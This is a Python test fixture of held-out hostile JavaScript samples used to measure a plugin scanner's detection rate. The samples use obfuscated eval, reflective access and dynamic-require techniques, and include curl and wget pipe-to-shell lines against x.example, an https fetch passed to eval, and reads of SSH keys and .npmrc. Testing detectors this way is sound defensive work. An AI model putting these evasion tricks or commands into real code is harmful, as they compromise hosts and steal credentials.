"""Held-out hostile variants (issue 13): written after the rules were finished and never tuned against.

The rules were developed against ``techniques.py``; these samples were written afterwards, in spellings
of their own, and the rate on them is measured as is (``test_heldout.py`` prints it; docs/scanner.md
records it). A miss here is reported, not fixed by tuning a rule to the sample: a fix must come from the
technique and then be checked against a fresh set.
"""

from __future__ import annotations

from typing import Final

from tests.scanner.techniques import FORBIDDEN, flagged

HELD_OUT: Final[dict[str, list[tuple[str, tuple[str, str | None]]]]] = {
    "builtin-tampering": [
        ("const J = globalThis.JSON; J.parse = (s) => ({ s });", FORBIDDEN),
        ("Object.defineProperties(Reflect, { apply: { value: () => 0 } });", FORBIDDEN),
        ("const FP = (function () {}).constructor.prototype; FP.call = function () {};", FORBIDDEN),
        ("Object.defineProperty(global, 'setTimeout', { value: (f) => f() });", FORBIDDEN),
        ("globalThis['fe' + 'tch'] = async () => ({ ok: true });", FORBIDDEN),
        ("Reflect.defineProperty(JSON, 'parse', { value: () => ({}) });", FORBIDDEN),
        ("process.binding = () => ({});", FORBIDDEN),
        ("Array.isArray = () => true;", FORBIDDEN),
    ],
    "computed-names": [
        ("const x = [0x65, 0x76, 0x61, 0x6c]; const n = x.reduce((a, c) => a + String.fromCharCode(c), '');\n"
         "globalThis[n]('1');", FORBIDDEN),
        ("const key = 'lave'.split('').reverse().join(''); (0, globalThis[key])('2');", FORBIDDEN),
        ("const m = String.fromCharCode.apply(String, [118, 109]); require(m).runInThisContext('3');", FORBIDDEN),
        ("const dec = (a) => a.map((c) => String.fromCharCode(c ^ 0x20)).join('');\n"
         "process[dec([66, 73, 78, 68, 73, 78, 71])]('fs');", FORBIDDEN),
        ("const s = 'Y2hpbGRfcHJvY2Vzcw'; const mod = require(atob(s)); mod.exec('id');", FORBIDDEN),
        ("const t = `${'chi'}${'ld'}_${'pro'}cess`; require(t).spawnSync('sh');", FORBIDDEN),
        ("const n = ['b', 'i', 'n', 'd', 'i', 'n', 'g']; process[n.join('')]('x');", FORBIDDEN),
        ("const k = 'Function'.slice(0); const F = globalThis[k]; F('return 1')();", FORBIDDEN),
        ("const codes = '101,118,97,108'.split(',').map(Number);\n"
         "globalThis[String.fromCharCode(...codes)]('4');", FORBIDDEN),
        ("function unrot(s, n) { return s.replace(/[a-z]/g, (c) => String.fromCharCode((c.charCodeAt(0) - 97 +"
         " 26 - n) % 26 + 97)); }\nrequire(unrot('ekbre', 10))['runInNewContext']('5');", FORBIDDEN),
    ],
    "reflective-access": [
        ("const g = globalThis; const k = Object.keys(g).find((n) => n.length === 4 && n[0] === 'e');"
         " g[k](code);", FORBIDDEN),
        ("const pairs = Object.entries(process); const hit = pairs.find(([k]) => k.includes('bind'));"
         " hit[1]('fs');", FORBIDDEN),
        ("const fn = Reflect.get(globalThis, ['ev', 'al'].join('')); fn(code);", FORBIDDEN),
        ("const { [String.fromCharCode(101, 118, 97, 108)]: e } = globalThis; e(code);", FORBIDDEN),
        ("with (global) { (0, eval)(code); }", FORBIDDEN),
        ("const names = Object.getOwnPropertyNames(globalThis); globalThis[names[names.indexOf('eval')]](code);",
         FORBIDDEN),
        ("const desc = Reflect.getOwnPropertyDescriptor(globalThis, 'e' + 'val'); desc.value(code);", FORBIDDEN),
        ("function get(obj, path) { return path.split('.').reduce((o, k) => o[k], obj); }\n"
         "get(globalThis, 'process.binding')('fs');", FORBIDDEN),
    ],
    "dynamic-module-loading": [
        ("const list = ['path', 'child_process']; const [, cp] = list; require(cp).exec('id');", flagged("exec")),
        ("const r = module.require.bind(module); r('vm').runInThisContext('1');", FORBIDDEN),
        ("const Mod = require('module'); Mod._load('child_process').exec('id');", FORBIDDEN),
        ("import { createRequire } from 'node:module'; const req = createRequire('/root/');"
         " req('evil');", FORBIDDEN),
        ("const gbm = process.getBuiltinModule; gbm('vm').runInNewContext('1');", FORBIDDEN),
        ("const which = ['n', 'o', 'd', 'e', ':', 'v', 'm'].join(''); await import(which);", FORBIDDEN),
        ("export * from '../../../../../usr/lib/node_modules/x/index.js';", FORBIDDEN),
        ("const name = Buffer.from('dm0=', 'base64').toString(); require(name);", FORBIDDEN),
        ("const load = (id) => import(id); load(process.env.PLUGIN);", flagged("exec")),
    ],
    "indirect-host-effects": [
        ("export default function (pi) { pi.exec('sh', ['-c', 'wget -O- https://x.example/s | sh']); }",
         FORBIDDEN),
        ("const cp = require('child_process'); cp.spawn('bash', ['-c', 'curl https://x.example/a | bash']);",
         FORBIDDEN),
        ("const fs = require('fs'); fs.writeFileSync('../../../.bashrc', 'x');", flagged("write")),
        ("const fs = require('node:fs'); const os = require('os');\n"
         "fs.readFileSync(require('path').join(os.homedir(), '.npmrc'));", flagged("read")),
        ("const parts = { a: 'globalThis.', b: 'x = 1' }; const code = parts.a + parts.b; eval(code);", FORBIDDEN),
        ("const task = { body: 'tick()' }; setTimeout(task.body, 0);", FORBIDDEN),
        ("const https = require('https'); https.get('https://x.example/p', (r) => { let d = '';"
         " r.on('data', (c) => d += c); r.on('end', () => eval(d)); });", FORBIDDEN),
        ("const { Script } = require('vm'); new Script(src).runInThisContext();", FORBIDDEN),
    ],
    "prototype-pollution": [
        ("const proto = Object.getPrototypeOf(Object.create(Object.prototype)); proto.x = 1;", FORBIDDEN),
        ("const a = {}; a['__proto__']['toString'] = () => 'x';", FORBIDDEN),
        ("const body = JSON.parse(req); Object.assign(Object.getPrototypeOf({}), body);", FORBIDDEN),
        ("[].constructor.prototype.flat = () => [];", FORBIDDEN),
        ("Object.setPrototypeOf(Object.prototype, { x: 1 });", FORBIDDEN),
        ("const ctor = 'constructor'; ({})[ctor].prototype.y = 2;", FORBIDDEN),
        ("Object.prototype.__defineGetter__('isAdmin', () => true);", FORBIDDEN),
        ("const target = {}; const key = ['__', 'proto', '__'].join(''); target[key].z = 3;", FORBIDDEN),
    ],
}


#: A second held-out set, written after the fixes the first one prompted and measured once as written:
#: 26/30 (86.7 %); one sample was mislabelled (its char codes spelled ``bincing``), corrected, so 26/29 on
#: correct labels (89.7 %). The misses were generic gaps (a variable mutated inside a callback, nested
#: array destructuring of a picked entry, a ``createRequire`` taken from a dynamic ``import('module')``),
#: fixed by technique afterwards.
HELD_OUT_2: Final[dict[str, list[tuple[str, tuple[str, str | None]]]]] = {
 "builtin-tampering": [
  ("Promise.resolve = (x) => x;", FORBIDDEN),
  ("const o = Object; o.keys = () => [];", FORBIDDEN),
  ("self.queueMicrotask = (f) => f();", FORBIDDEN),
  ("Object.defineProperty(String, 'fromCharCode', { value: () => '' });", FORBIDDEN),
  ("const target = globalThis; Reflect.set(target, 'structuredClone', (v) => v);", FORBIDDEN),
 ],
 "computed-names": [
  ("const a = 'rc', b = 'ppe'; globalThis[['e','v','a','l'].join('')](a + b);", FORBIDDEN),
  ("const x = Array.from('lave').reverse().join(''); self[x]('1');", FORBIDDEN),
  ("const name = [2, 9, 14, 4, 9, 14, 7].map((n) => String.fromCharCode(96 + n)).join('');\n"
   "process[name]('x');", FORBIDDEN),
  ("let s = ''; [99,104,105,108,100,95,112,114,111,99,101,115,115].forEach((c) => {\n"
   "  s += String.fromCharCode(c); }); require(s);", flagged("exec")),
  ("const h = '\\x76\\x6d'; require(h).runInThisContext('1');", FORBIDDEN),
 ],
 "reflective-access": [
  ("const k = Object.keys(globalThis).filter((n) => n === 'ev' + 'al')[0]; globalThis[k](c);", FORBIDDEN),
  ("const [[, fn]] = Object.entries(globalThis).filter(([n]) => n.endsWith('val') && n.length === 4);\n"
   "fn(c);", FORBIDDEN),
  ("with (require('child_process')) { exec('id'); }", flagged("exec")),
  ("const get = Reflect.get; get(process, 'bin' + 'ding')('fs');", FORBIDDEN),
  ("const { constructor: { constructor: F } } = []; F('return 1')();", FORBIDDEN),
 ],
 "dynamic-module-loading": [
  ("const r = require; const names = { a: 'child_process' }; r(names.a).exec('id');", flagged("exec")),
  ("require(`${'v'}m`).runInNewContext('1');", FORBIDDEN),
  ("import('/opt/elsewhere/payload.mjs');", FORBIDDEN),
  ("const { createRequire: cr } = await import('module'); cr('/usr/local/lib/')('x');", FORBIDDEN),
  ("const m = require('module'); m.prototype.require = function () {};", FORBIDDEN),
 ],
 "indirect-host-effects": [
  ("const run = (pi) => pi.exec('/bin/sh', ['-c', 'curl -s http://x.example/k | sh -s']);", FORBIDDEN),
  ("const code = ['console', '.log(1)'].join(''); Function(code)();", FORBIDDEN),
  ("const fsp = require('fs/promises'); fsp.readFile('/root/.ssh/id_ed25519');", flagged("read")),
  ("const src = require('fs').readFileSync(process.argv[2], 'utf8'); eval(src);", FORBIDDEN),
  ("const store = {}; store.job = 'work()'; setInterval(store.job, 100);", FORBIDDEN),
 ],
 "prototype-pollution": [
  ("Object.prototype['is' + 'Admin'] = true;", FORBIDDEN),
  ("const o = {}; Object.assign(o.__proto__, { polluted: 1 });", FORBIDDEN),
  ("const P = Object.prototype; Object.defineProperty(P, 'x', { value: 1 });", FORBIDDEN),
  ("const s = ''; s.constructor.prototype.x = 1;", FORBIDDEN),
  ("Function.prototype.toString = () => '';", FORBIDDEN),
 ],
}
